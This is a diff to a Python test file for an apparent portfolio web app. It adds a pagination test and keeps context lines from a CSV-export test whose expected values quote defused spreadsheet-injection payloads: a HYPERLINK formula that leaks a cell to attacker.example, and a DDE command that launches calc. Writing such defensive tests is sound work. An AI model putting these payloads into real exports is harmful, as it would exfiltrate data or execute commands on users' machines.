@@ -161,3 +161,30 @@ def test_the_portfolio_csv_download_neutralises_formulas(app_for, database_url, 
         ('\'=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', "'+cmd|' /C calc'!A0"),
         ("'@SUM(1+1)", "'-2+3"),
     ]
+
+
+def test_a_large_portfolio_is_shown_a_page_at_a_time(app_for, database_url, engine):
+    from sqlalchemy import text
+
+    from portfolio.demo.scale import generate_scale_portfolio
+    from portfolio.views.portfolio_list import PAGE_SIZE
+
+    generate_scale_portfolio(engine, 230, measurements=500)
+    with engine.connect() as connection:
+        in_pilot = connection.execute(
+            text("SELECT count(*) FROM use_case WHERE stage = 'pilot'")
+        ).scalar_one()
+    at = app_for(database_url, "pages/portfolio.py")
+    assert not at.exception
+    assert metric(at, "In pilot") == str(in_pilot)  # counted over all 230, not the page shown
+    first = at.dataframe[0].value
+    assert list(first["key"]) == [f"UC-{n:04d}" for n in range(1, PAGE_SIZE + 1)]
+    assert "230 use cases: 1–100 shown (page 1 of 3)" in texts(at)
+    at.button(key="portfolio_next").click().run()
+    at.button(key="portfolio_next").click().run()
+    assert list(at.dataframe[0].value["key"]) == [f"UC-{n:04d}" for n in range(201, 231)]
+    assert at.button(key="portfolio_next").disabled and "201–230 shown (page 3 of 3)" in texts(at)
+    at.multiselect(key="stage").set_value(["pilot"]).run()  # a new filter starts at its first page
+    assert len(at.dataframe[0].value) == min(in_pilot, PAGE_SIZE)
+    assert set(at.dataframe[0].value["stage"]) == {"Pilot"}
+    assert not at.exception
